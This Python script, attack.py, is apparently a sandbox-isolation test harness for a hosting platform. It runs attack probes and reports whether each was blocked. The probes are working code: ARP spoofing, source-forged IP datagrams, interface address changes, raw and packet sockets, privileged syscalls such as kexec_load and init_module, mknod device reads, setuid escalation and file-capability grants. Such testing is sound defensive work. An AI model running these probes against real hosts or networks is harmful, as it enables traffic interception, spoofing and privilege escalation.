"""What an attacker types, in a running project or in a build.

attack.py FILE            each line of it is a name, a tab and a command for the shell; says of each whether it got through
attack.py KIND [WORD...]  one attack of those below; exit 0 when it got through
"""
import ctypes, errno, os, platform, shutil, signal, socket, struct, subprocess, sys, tempfile, threading

PATIENCE = 2
LIBC = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == "aarch64"
# x86_64, aarch64
CALLS = {"keyctl": (250, 219), "bpf": (321, 280), "perf_event_open": (298, 241), "kexec_load": (246, 104), "init_module": (175, 105), "open_by_handle_at": (304, 265),
         "fanotify_init": (300, 262), "userfaultfd": (323, 282), "quotactl": (179, 60), "pivot_root": (155, 41), "lookup_dcookie": (212, 18), "acct": (163, 89),
         "io_uring_setup": (425, 425), "swapon": (167, 224), "reboot": (169, 142), "sethostname": (170, 161), "settimeofday": (164, 170), "syslog": (103, 116),
         "setns": (308, 268), "unshare": (272, 97), "mount": (165, 40), "iopl": (172, None), "ioperm": (173, None), "add_key": (248, 217), "move_pages": (279, 239),
         "name_to_handle_at": (303, 264), "process_vm_readv": (310, 270)}


def gateway():
    for line in open("/proc/net/route").readlines()[1:]:
        words = line.split()
        if words[1] == "00000000":
            return socket.inet_ntoa(struct.pack("<I", int(words[2], 16)))
    return "203.0.113.1"


def tcp(host, port):
    with socket.create_connection((host, int(port)), PATIENCE) as s:
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return "answered %r" % s.recv(40)


def site(host, port, name):
    with socket.create_connection((host, int(port)), PATIENCE) as s:
        s.sendall(b"GET / HTTP/1.0\r\nHost: %s\r\n\r\n" % name.encode())
        said = s.recv(4096).split(b"\r\n")[0].decode()
        if " 200" not in said:
            raise OSError(said)
        return said


def udp(host, port):
    family, _, _, _, address = socket.getaddrinfo(host, int(port), type=socket.SOCK_DGRAM)[0]
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(PATIENCE)
        s.sendto(b"hello", address)
        return "answered %r" % s.recv(40)


def ping(host):
    try:
        made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    except PermissionError:
        made = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    with made as s:
        s.settimeout(PATIENCE)
        body = struct.pack("!BBHHH", 8, 0, 0, 0, 1)
        s.sendto(struct.pack("!BBHHH", 8, 0, 0xffff ^ 0x0801, 0, 1), (host, 0))
        while True:
            got = s.recv(200)
            kind = got[20] if got[0] == 0x45 else got[0]
            if kind == 0:
                return "answered"


def name(host):
    return "is at " + socket.getaddrinfo(host, None)[0][4][0]


def reverse(address):
    found = socket.gethostbyaddr(address)[0]
    if "paas" not in found:
        raise OSError(found)
    return "is called " + found


def packet():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
    return "sees every packet of its link"


def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).close()
    return "may forge addresses"


def forged(source, host, port, token):
    """A datagram that says it comes from somebody else: the other end tells whether it arrived."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        body = token.encode()
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(body), 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(host))
        s.sendto(head + struct.pack("!HHHH", 4000, int(port), 8 + len(body), 0) + body, (host, 0))
    raise OSError("sent; whether it arrived is asked there")


def arp(address):
    """Tells its link that it is somebody else, then waits for what is sent to that one."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)) as s:
        s.bind(("eth0", 0))
        mac = s.getsockname()[4]
        claim = b"\xff" * 6 + mac + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2) + mac + socket.inet_aton(address) + b"\xff" * 6 + socket.inet_aton(address)
        s.send(claim)
    return "claimed " + address


def address(new):
    import fcntl
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        fcntl.ioctl(s, 0x8916, struct.pack("16sH2s4s8s", b"eth0", socket.AF_INET, b"\0\0", socket.inet_aton(new), b"\0" * 8))
    return "has the address " + new


def call(which, *words):
    number = CALLS[which][ARM]
    if number is None:
        raise OSError("not on this processor")
    values = [ctypes.c_char_p(w[1:].encode()) if w.startswith("=") else ctypes.c_long(int(w, 0)) for w in words]
    if LIBC.syscall(number, *values) < 0:
        error = ctypes.get_errno()
        if error in (errno.EPERM, errno.EACCES, errno.ENOSYS):
            raise OSError(error, os.strerror(error))
        return "is let in, and only says: " + os.strerror(error)
    return "done"


def write(path, text):
    there = os.open(path, os.O_WRONLY)
    os.write(there, text.encode())
    return "written"


def read(path):
    with open(path, "rb") as f:
        got = f.read(16)
    if not got:
        raise OSError("empty")
    return "read %r" % got


def device(kind, major, minor):
    path = "/tmp/device-%s-%s" % (major, minor)
    subprocess.run(["mknod", path, kind, major, minor], check=True)
    return read(path)


def setuid(program):
    """As nobody, a program that belongs to root and is set-uid."""
    if os.fork() == 0:
        os.setgid(65534)
        os.setuid(65534)
        os.execv(program, [program, "-c", "import os; raise SystemExit(0 if os.geteuid() == 0 else 1)"])
    if os.waitstatus_to_exitcode(os.wait()[1]) != 0:
        raise OSError("stays nobody")
    return "became root"


def priority():
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))
    return "runs before everybody"


def strangers():
    """Processes of the machine, by names that no program here has."""
    seen = [open("/proc/%s/comm" % p).read().strip() for p in os.listdir("/proc") if p.isdigit()]
    if not {"dockerd", "containerd", "caddy"} & set(seen):
        raise OSError("only %d of its own" % len(seen))
    return "sees " + " ".join(seen)


def threads(most):
    end = threading.Event()
    threading.stack_size(64 << 10)
    try:
        for _ in range(int(most)):
            threading.Thread(target=end.wait).start()
        return "%s of them" % most
    finally:
        end.set()


def root():
    os.chroot("/")
    return "has another root"


def able():
    """Gives a program a capability of its own."""
    shutil.copy("/bin/true", "/tmp/able")
    os.setxattr("/tmp/able", "security.capability", struct.pack("<IIIII", 0x02000001, 1 << 12, 0, 0, 0))
    return "may change the network"


def one(words):
    try:
        print(globals()[words[0]](*words[1:]))
    except Exception as e:
        print(e, flush=True)
        os._exit(1)


def start(line):
    """A process of its own for each; most need no further program."""
    title, command = line.rstrip("\n").split("\t")
    out = tempfile.TemporaryFile()
    pid = os.fork()
    if pid == 0:
        signal.alarm(20)
        os.dup2(out.fileno(), 1)
        os.dup2(out.fileno(), 2)
        words = os.path.expandvars(command).split()
        if words[:2] == ["python3", "attack.py"] and "||" not in words:
            one(words[2:])
            sys.stdout.flush()
            os._exit(0)
        os.execvp("sh", ["sh", "-c", command])
    return pid, (title, out)


def end(running):
    pid, status = os.wait()
    title, out = running.pop(pid)
    out.seek(0)
    said = out.read().decode(errors="replace").strip().splitlines()
    print("ATTACK|%s|%s|%s" % (title, "HELD" if status else "THROUGH", said[-1][:120] if said else ""), flush=True)


def everything(file):
    os.environ["GATEWAY"] = gateway()
    running = {}
    for line in open(file):
        while len(running) >= 24:
            end(running)
        running.update([start(line)])
    while running:
        end(running)


if len(sys.argv) > 1 and callable(globals().get(sys.argv[1])):
    one(sys.argv[1:])
elif len(sys.argv) == 2:
    everything(sys.argv[1])
